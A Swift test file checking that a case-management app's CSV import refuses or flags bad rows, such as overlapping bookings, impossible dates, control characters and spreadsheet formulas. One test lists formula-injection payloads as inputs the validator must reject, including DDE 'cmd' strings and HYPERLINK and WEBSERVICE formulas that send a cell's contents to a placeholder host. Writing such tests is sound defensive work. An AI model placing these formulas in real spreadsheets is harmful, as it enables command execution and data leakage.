import Foundation
import GRDB
import ReUniteReplica
import ReUniteSync
import Testing

@testable import ReUniteProgramme

/// What must not come in as if it were right: through a file, and before anything is kept.
@Suite("A file with what cannot be is refused or flagged, with the row and the reason")
struct BadInputTests {
    struct Bad: Sendable, CustomTestStringConvertible {
        let testDescription: String
        let table: String
        let lines: [String]
        /// Of each remark: line, column, and words of its reason.
        var errors: [(Int, String, String)] = []
        var warnings: [(Int, String, String)] = []

        init(
            _ name: String, into table: String, _ lines: String..., refused: [(Int, String, String)] = [],
            flagged: [(Int, String, String)] = []
        ) {
            (testDescription, self.table, self.lines, errors, warnings) = (name, table, lines, refused, flagged)
        }
    }

    /// `REF` and `OTHER` are cases of the partner's, `HOME` and `MENTOR` a home and a mentor of its own.
    static let all = [
        Bad(
            "A second care episode that goes on beside the first", into: "child_care_episode",
            "Case,Child,From,Legal status", "REF,Mchild,2020-02-01,C2", "REF,Mchild,2021-02-01,NONE",
            flagged: [(3, "", "two care episodes")]),
        Bad(
            "One mentor for two women at the same time", into: "mentor_match", "Case,Mentor,From,To",
            "REF,MENTOR,2026-03-01,2026-04-01", "OTHER,MENTOR,2026-03-31,", "OTHER,MENTOR,2026-02-01,2026-03-01",
            flagged: [(3, "B", "already (line 2)")]),
        Bad(
            "One home for two families on the same nights", into: "occupancy", "Case,Home,Arrives,Departs",
            "REF,HOME,2026-03-01,2026-09-01", "OTHER,HOME,2026-09-01,2027-01-01", "OTHER,HOME,2026-08-31,2026-10-01",
            flagged: [(4, "B", "already (line 2)")]),
        Bad(
            "A child older than the mother", into: "child", "Case,First name,Date of birth",
            "REF,Ada,1980-05-06", "REF,Eve,2016-05-06",
            flagged: [(2, "C", "older than the mother"), (2, "C", "eighteen")]),
        Bad(
            "Days that do not exist, have no year, or are still to come", into: "child",
            "Case,First name,Date of birth", "REF,Ada,30/02/2016", "REF,Eve,2016-13-01", "REF,Ivy,May",
            "REF,Amy,2030-01-01",
            "REF,Joy,2015-02-29",
            refused: [
                (2, "C", "no such day"), (3, "C", "no such day"), (4, "C", "not a date"), (5, "C", "future"),
                (6, "C", "no such day"),
            ]),
        Bad(
            "Codes that no list has", into: "need", "Case,Category,Section", "REF,HOUSING,", "REF,HEALTH,NONSENSE",
            refused: [(2, "B", "list"), (3, "C", "list")]),
        Bad(
            "Text that is too long", into: "child", "Case,First name", "REF,\(String(repeating: "a", count: 101))",
            refused: [(2, "B", "too long")]),
        Bad(
            "Control characters", into: "case_note", "Case,Body", "REF,bell\u{7}",
            "REF,escape\u{1B}[31m", "REF,csi\u{9B}31m", "REF,next\u{85}line", "REF,turned\u{202E}round",
            "REF,apart\u{2067}from", "REF,none\u{FFFE}", "REF,line\u{2028}", "REF,می\u{200C}خواهم क्\u{200D}ष",
            refused: (2...9).map { ($0, "B", "control") }),
        Bad(
            "What ends before it begins", into: "occupancy", "Case,Home,Arrives,Departs",
            "REF,HOME,2027-05-19,2027-02-20", "REF,HOME,2027-05-19,2027-05-19",
            refused: [(2, "D", "not after"), (3, "D", "not after")]),
        Bad(
            "A match that ends before it begins", into: "mentor_match", "Case,Mentor,From,To",
            "REF,MENTOR,2026-03-02,2026-03-01", refused: [(2, "D", "not after")]),
        Bad(
            "What a whole row must not be", into: "unit", "Property,Reference,Bedrooms", "Elm House,---,2",
            "Elm House,E,2",
            refused: [(2, "B", "reference"), (3, "B", "too short")]),
        Bad(
            "Nobody in particular", into: "limited_access", "Case,Kind", "REF,EXCLUSION",
            refused: [(2, "", "'partner'")]),
        Bad(
            "A second woman in one case", into: "person", "Case,legal_first,legal_last", "REF,Second,Woman",
            flagged: [(2, "A", "another woman")]),
        Bad(
            "What is still to come", into: "engagement_event", "Case,Kind,When it happened", "REF,ATTENDED,2099-03-01",
            flagged: [(2, "C", "after it was typed")]),
        Bad(
            "Formulas", into: "case_note", "Case,Body", "REF,=1+1", "REF,@SUM(A1)", "REF,'=2+2",
            refused: [(2, "B", "formula"), (3, "B", "formula")]),
        Bad(
            "Formulas that begin with a sign", into: "case_note", "Case,Body", "REF,+1+cmd|' /C calc'!A0",
            "REF,-2+3+cmd|' /C calc'!A0", "REF,\"+A1*HYPERLINK(\"\"http://e/\"\"&B2)\"", "REF,+(1+1)", "REF,+'x'!A1",
            "REF,\"+\"\"a\"\"&WEBSERVICE(\"\"http://e/\"\")\"", "REF,-SUM(A1)", "REF,-A1", "REF,- sum (A1)*2",
            "REF,+1 +cmd|'/C calc me'!A0",
            refused: (2...11).map { ($0, "B", "formula") }),
    ]

    @Test("Said by the dry run, by line and column; what is flagged comes in, what is refused does not", arguments: all)
    func bad(_ bad: Bad) throws {
        let network = try Network()
        let first = try network.markedCase()
        let (home, mentor) = try network.edit { database in
            let property = try database.add("property", ["partner_id": Network.surrey.sqlBlob, "name": "Elm House"])
            let home = try database.add(
                "unit",
                [
                    "partner_id": Network.surrey.sqlBlob, "property_id": property.sqlBlob, "ref": "Flat 1",
                ])
            let mentor = try database.add(
                "volunteer_mentor", ["partner_id": Network.surrey.sqlBlob, "name": "Hope Hill"])
            return (home, mentor)
        }
        let second = try network.edit {
            try CaseFiles.create(
                NewCase(person: .init(legalFirst: "Other", legalLast: "Woman", knownAs: "Other")), by: Network.surrey,
                in: $0, now: Network.noon)
        }
        let words = [
            "OTHER": second.ref ?? "", "REF": first.ref ?? "", "HOME": home.description, "MENTOR": mentor.description,
        ]
        let text = bad.lines.map { line in
            words.sorted { $0.key < $1.key }.reduce(line) { $0.replacingOccurrences(of: $1.key, with: $1.value) }
        }.joined(separator: "\n")
        for isDryRun in [true, false] {
            let before = try network.logged()
            var options = RecordImport.Options()
            options.isDryRun = isDryRun
            let report = try network.edit {
                try RecordImport(try CSVFile(Array(text.utf8)), into: bad.table, options: options).run(
                    by: Network.surrey, in: $0, now: Network.noon)
            }
            expect(report.errors, bad.errors)
            if bad.errors.isEmpty { expect(report.warnings, bad.warnings) }
            let isKept = !isDryRun && bad.errors.isEmpty
            #expect(try (network.logged() != before) == isKept)
        }
    }

    private func expect(
        _ found: [ImportReport.Remark], _ wanted: [(Int, String, String)],
        sourceLocation: SourceLocation = #_sourceLocation
    ) {
        let said = found.map { "\($0.line) \($0.column ?? "") \($0.why)" }
        #expect(found.count == wanted.count, "\(said)", sourceLocation: sourceLocation)
        for (line, column, words) in wanted {
            #expect(
                found.contains {
                    $0.line == line && (column.isEmpty || $0.column == column)
                        && $0.why.lowercased().contains(words) && !$0.advice.isEmpty
                }, "line \(line) \(column): \(words); said was \(said)", sourceLocation: sourceLocation)
        }
    }

    @Test(
        "A telephone number, a list's dash and a number below zero are no formulas",
        arguments: [
            "+44 7700 900123", "+44 (0)7700-900123", "- wants a home", "- 2-3 children", "- child(ren) at home", "-5",
            "- A&E visit on 1/3/2026", "-", "- home!", "+", "- seen at 14:05 (late)", "-3.5", "- flat 3",
        ])
    func prose(text: String) {
        #expect(CSVText.complaint(text)?.why == nil)
    }

    @Test("What was asked for by hand before is known to a file that asks for it again")
    func alreadyHere() throws {
        let network = try Network()
        let summary = try network.markedCase()
        let home = try network.edit { database in
            let property = try database.add("property", ["partner_id": Network.surrey.sqlBlob, "name": "Elm House"])
            let home = try database.add(
                "unit", ["partner_id": Network.surrey.sqlBlob, "property_id": property.sqlBlob, "ref": "Flat 1"])
            _ = try database.add(
                "occupancy",
                [
                    "case_id": try #require(Identifier(summary.id)).sqlBlob, "unit_id": home.sqlBlob,
                    "arrive_on": "2026-01-01", "depart_on": "2026-06-01",
                ])
            return home
        }
        let lines = "Case,Home,Arrives,Departs\n\(summary.ref ?? ""),\(home),2026-05-01,2026-07-01"
        let report = try network.edit {
            try RecordImport(try CSVFile(Array(lines.utf8)), into: "occupancy").run(
                by: Network.surrey, in: $0, now: Network.noon)
        }
        #expect(report.warnings.map(\.line) == [2] && report.warnings.allSatisfy { !$0.why.contains("line") })
    }
}
